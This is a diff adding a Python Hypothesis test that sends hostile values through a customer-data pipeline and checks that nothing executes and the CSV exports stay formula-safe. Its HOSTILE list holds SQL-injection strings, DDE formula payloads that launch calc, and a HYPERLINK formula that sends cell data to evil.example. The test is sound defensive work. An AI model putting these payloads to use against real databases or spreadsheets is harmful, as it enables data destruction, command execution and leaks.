@@ -1,0 +1,93 @@
+"""Values typed by strangers pass through the whole pipeline without breaking or executing anything.
+
+Hypothesis draws one batch of hostile values (SQL fragments, spreadsheet formulas, control characters,
+right-to-left marks, emoji, 100 kB strings and arbitrary text); they are planted in the names and streets of one
+simulated population, and one nightly run carries them from the source APIs to the marts and the export files.
+"""
+
+from __future__ import annotations
+
+import csv
+
+import duckdb
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import dlt_sources.simulator.simulation as simulation
+from dlt_sources.simulator import running_simulator
+
+HOSTILE = [
+    "'); drop table canary; --",
+    "Robert'); DELETE FROM marts.customer_360; --",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\u202eevil\u202c name",  # right-to-left override
+    "tab\tnew\nline\rreturn\x00nul\x1bescape",
+    "emoji 🧨🙂👨‍👩‍👧",
+    "x" * 100_000,
+]
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def plant(values: list[str]):
+    """A `generate` that writes `values` into the first customers' names and streets of every system."""
+    original = simulation.generate
+
+    def generate(*args, **kwargs):
+        world = original(*args, **kwargs)
+        for records in world.customers.values():
+            for record, value in zip(records, values, strict=False):
+                record.first, record.last, record.street = value, value[::-1], value
+        return world
+
+    return generate
+
+
+@settings(max_examples=1, derandomize=True, deadline=None, database=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(drawn=st.lists(st.text(min_size=1, max_size=40), min_size=10, max_size=10))
+def test_hostile_values_pass_through_the_whole_night(drawn, tmp_path_factory, monkeypatch):
+    from cdp_orchestration.cli import run_nightly
+
+    home = tmp_path_factory.mktemp("hostile")
+    values = HOSTILE + drawn
+    monkeypatch.setattr(simulation, "generate", plant(values))
+    with running_simulator(home=home, people=120, seed=9, in_thread=True) as base_url:
+        env = {"CDP_HOME": str(home), "CDP_PEOPLE": "120", "CDP_SEED": "9",
+               "DESTINATIONS__MAILCHIMP__BASE_URL": f"{base_url}/3.0", "DESTINATIONS__MAILCHIMP__API_KEY": "k"}
+        for source in ("SHOPIFY", "SQUARE", "HUBSPOT"):
+            env[f"SOURCES__{source}__BASE_URL"] = base_url
+            env[f"SOURCES__{source}__ACCESS_TOKEN"] = "token"
+        for key, value in env.items():
+            monkeypatch.setenv(key, value)
+        monkeypatch.delenv("DAGSTER_HOME", raising=False)
+        with duckdb.connect(str(home / "warehouse.duckdb")) as con:
+            con.execute("create table canary as select 1 as alive")
+        assert run_nightly() == 0
+
+    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
+        assert con.sql("select alive from canary").fetchall() == [(1,)], "a planted statement was executed"
+        truth = con.sql(f"select count(*) from read_csv('{home / 'simulator' / 'truth.csv'}') "
+                        "where source_system = 'shopify'").fetchall()[0][0]
+        assert con.sql("select count(*) from raw_shopify.customers").fetchall()[0][0] == truth
+        # Nothing lost or altered: every planted value arrived exactly as the source sent it.
+        names = {row[0] for row in con.sql("select first_name from raw_shopify.customers").fetchall()}
+        assert set(values) <= names, [v[:40] for v in set(values) - names]
+        mapped = con.sql("select count(*) from marts.customer_id_map").fetchall()[0][0]
+        assert mapped == con.sql("select count(*) from intermediate.int_person_records").fetchall()[0][0]
+    for export in (home / "exports").rglob("*.csv"):
+        with export.open(newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    assert not (cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)), (export, cell[:60])
+    assert (home / "analytics.duckdb").exists()
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell.replace(" ", ""))
+        return True
+    except ValueError:
+        return False
